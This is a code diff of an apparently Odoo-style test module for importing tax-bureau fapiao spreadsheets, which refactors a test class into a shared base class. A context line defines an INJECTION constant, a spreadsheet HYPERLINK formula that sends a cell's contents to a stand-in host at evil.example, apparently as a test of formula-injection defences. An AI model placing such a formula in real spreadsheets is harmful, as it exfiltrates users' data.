@@ -21,7 +21,9 @@ INJECTION = '=HYPERLINK("http://evil.example/steal?c="&A1,"查看详情")'
 
 @tagged("post_install", "-at_install")
 @freeze_time("2026-11-10")
-class TestBureauImport(FapiaoCommon):
+class BureauImportCommon(FapiaoCommon):
+    """A company with the seller's tax ID, its register of October, and a month's export."""
+
     @classmethod
     def setUpClass(cls):
         super().setUpClass()
@@ -119,6 +121,10 @@ class TestBureauImport(FapiaoCommon):
         self.assertEqual(self.f_text.uploaded, uploaded, "nothing may be changed")
         return str(caught.exception)
 
+
+@tagged("post_install", "-at_install")
+@freeze_time("2026-11-10")
+class TestBureauImport(BureauImportCommon):
     # ------------------------------------------------------------------ outcomes
     def test_month_reconciles_into_every_outcome(self):
         batch = self.do_import(be.write_export_xlsx(self.month_rows()))
